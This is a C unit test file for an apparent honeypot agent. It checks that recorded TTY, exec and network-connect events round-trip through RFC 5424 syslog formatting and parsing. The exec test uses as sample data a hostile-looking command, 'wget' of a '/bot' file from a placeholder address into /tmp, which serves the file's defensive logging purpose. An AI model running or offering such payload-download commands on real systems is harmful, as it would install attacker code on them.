/* summary: unit tests for agent records: RFC 5424 formatting and parsing back. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <string.h>
#include <cmocka.h>

#include "agent/record.h"

static void
base(struct sensor_record *r, enum sensor_type t)
{
	memset(r, 0, sizeof(*r));
	r->type = t;
	r->ts_ns = 1764167667123456789ull;
	r->pid = 11822;
	r->ppid = 11821;
	r->sid = 11822;
	r->uid = 0;
	r->euid = 0;
	r->gid = 0;
	strcpy(r->comm, "ba\"sh]");
	strcpy(r->tty, "pts0");
}

static void
roundtrip(const struct sensor_record *r, struct agent_record *out,
    struct buf *scratch, struct buf *line)
{
	struct syslog_msg m;

	buf_reset(line);
	assert_int_equal(agent_record_format(line, r, "hp1", 42), 0);
	syslog_parse(line->data, line->len, &m);
	assert_int_equal(m.format, SYSLOG_FMT_5424);
	assert_int_equal(agent_record_parse(&m, out, scratch), 0);
	assert_int_equal(out->seq, 42);
	assert_string_equal(out->host, "hp1");
	assert_int_equal(out->ts_ns, r->ts_ns);
	assert_int_equal(out->pid, 11822);
	assert_int_equal(out->ppid, 11821);
	assert_string_equal(out->comm, "ba\"sh]");
	assert_string_equal(out->tty, "pts0");
}

static void
test_tty(void **state)
{
	struct sensor_record r;
	struct agent_record a;
	struct buf scratch, line;
	/* every byte value survives, also ] " \ and NUL */
	uint8_t data[256];

	for (int i = 0; i < 256; i++)
		data[i] = (uint8_t)i;
	buf_init(&scratch, 0);
	buf_init(&line, 0);
	base(&r, SENSOR_TTY_IN);
	r.fd = 0;
	strcpy(r.io_tty, "pts0");
	r.data = data;
	r.len = sizeof(data);
	roundtrip(&r, &a, &scratch, &line);
	assert_int_equal(a.type, AGENT_REC_TTY_IN);
	assert_int_equal(a.len, sizeof(data));
	assert_memory_equal(a.data, data, sizeof(data));
	assert_non_null(strstr(buf_cstr(&line), " TTYIN "));

	r.type = SENSOR_TTY_OUT;
	r.len = 1;			/* base64 with two padding chars */
	roundtrip(&r, &a, &scratch, &line);
	assert_int_equal(a.type, AGENT_REC_TTY_OUT);
	assert_int_equal(a.len, 1);
	assert_int_equal(a.data[0], 0);
	buf_free(&scratch);
	buf_free(&line);
}

static void
test_exec(void **state)
{
	struct sensor_record r;
	struct agent_record a;
	struct buf scratch, line;
	static const char argv[] = "wget\0http://198.51.100.200/bot\0-O\0/tmp/b ]\"x";

	buf_init(&scratch, 0);
	buf_init(&line, 0);
	base(&r, SENSOR_EXEC);
	strcpy(r.filename, "/usr/bin/wget");
	strcpy(r.cwd, "/root");
	r.data = (const uint8_t *)argv;
	r.len = sizeof(argv) - 1;
	roundtrip(&r, &a, &scratch, &line);
	assert_int_equal(a.type, AGENT_REC_EXEC);
	assert_string_equal(a.filename, "/usr/bin/wget");
	assert_string_equal(a.cwd, "/root");
	assert_int_equal(a.argc, 4);
	assert_string_equal(a.argv[0], "wget");
	assert_string_equal(a.argv[1], "http://198.51.100.200/bot");
	assert_string_equal(a.argv[3], "/tmp/b ]\"x");
	/* the command line is the message, for people reading raw logs */
	assert_non_null(strstr(buf_cstr(&line),
	    "wget http://198.51.100.200/bot -O /tmp/b ]\"x"));
	buf_free(&scratch);
	buf_free(&line);
}

static void
test_sock(void **state)
{
	struct sensor_record r;
	struct agent_record a;
	struct buf scratch, line;

	buf_init(&scratch, 0);
	buf_init(&line, 0);
	base(&r, SENSOR_CONNECT);
	r.family = 2;
	r.proto = 6;
	r.lport = 40000;
	r.rport = 80;
	memcpy(r.laddr, "\xcb\x00\x71\x0a", 4);
	memcpy(r.raddr, "\xc6\x33\x64\xc8", 4);
	r.ret = -115;
	roundtrip(&r, &a, &scratch, &line);
	assert_int_equal(a.type, AGENT_REC_CONNECT);
	assert_string_equal(a.proto, "tcp");
	assert_string_equal(a.laddr, "203.0.113.10");
	assert_string_equal(a.raddr, "198.51.100.200");
	assert_int_equal(a.rport, 80);
	assert_int_equal(a.ret, -115);
	buf_free(&scratch);
	buf_free(&line);
}

static void
test_not_ours(void **state)
{
	static const char *lines[] = {
		"<13>1 2026-11-26T14:00:00Z host app - - - plain message",
		"<13>Nov 26 14:00:00 host app: old style",
		"<86>1 2026-11-26T14:00:00Z hp1 apiary-agent 1 TTYIN - [other@1 a=\"b\"]",
		"<86>1 2026-11-26T14:00:00Z hp1 apiary-agent 1 TTYIN - [tty@32473 data=\"abc\"]",
	};
	struct agent_record a;
	struct buf scratch;
	struct syslog_msg m;

	buf_init(&scratch, 0);
	for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
		syslog_parse(lines[i], strlen(lines[i]), &m);
		assert_int_equal(agent_record_parse(&m, &a, &scratch), -1);
		assert_int_equal(a.type, AGENT_REC_UNKNOWN);
	}
	buf_free(&scratch);
}

static void
test_sequence_wrap(void **state)
{
	assert_int_equal(agent_sequence_id(1), 1);
	assert_int_equal(agent_sequence_id(2147483647ull), 2147483647u);
	assert_int_equal(agent_sequence_id(2147483648ull), 1);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_tty),
		cmocka_unit_test(test_exec),
		cmocka_unit_test(test_sock),
		cmocka_unit_test(test_not_ours),
		cmocka_unit_test(test_sequence_wrap),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
